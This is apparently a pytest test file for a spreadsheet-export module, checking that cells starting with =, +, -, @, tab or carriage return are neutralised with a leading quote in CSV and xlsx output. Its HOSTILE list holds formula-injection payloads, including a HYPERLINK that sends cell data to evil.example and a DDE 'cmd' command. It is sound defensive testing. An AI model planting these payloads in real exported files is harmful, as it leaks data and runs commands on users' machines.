"""The OWASP rule against formula injection: text that would run gets a quote, numbers stay."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from exchange.spreadsheets import formula_problem, neutralize, neutralize_row, xlsx_text_cells

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_run_gets_a_leading_quote(text):
    assert neutralize(text) == "'" + text
    assert formula_problem(text) and "不能以 = + - @ 开头" in formula_problem(text)


@pytest.mark.parametrize("value", [-5, -2.5, Decimal("-3.20"), 0, 12, None, True, "张*明", "3号楼"])
def test_numbers_and_plain_text_pass_unchanged(value):
    assert neutralize(value) is value
    if isinstance(value, str):
        assert formula_problem(value) is None


def test_our_own_escape_is_refused_on_the_way_back_in():
    assert formula_problem("'=1+1")
    assert formula_problem("'张三") is None


def test_a_csv_cell_starts_with_the_quote():
    buffer = io.StringIO()
    csv.writer(buffer).writerow(neutralize_row(["=1+1", -4, "ok"]))
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'=1+1", "-4", "ok"]


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_cells_are_text_or_numbers_never_formulas(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("x") if write_only else book.active
    sheet.append(xlsx_text_cells(sheet, [*HOSTILE, -7, 1.5, None]))
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    cells = next(load_workbook(buffer).worksheets[0].iter_rows())
    assert all(c.data_type != "f" for c in cells)
    values = [c.value.replace("\n", "\r") for c in cells[: len(HOSTILE)]]  # XML: CR → LF
    assert values == ["'" + t for t in HOSTILE]
    number, fraction = cells[len(HOSTILE)], cells[len(HOSTILE) + 1]
    assert (number.value, number.data_type) == (-7, "n")
    assert (fraction.value, fraction.data_type) == (1.5, "n")
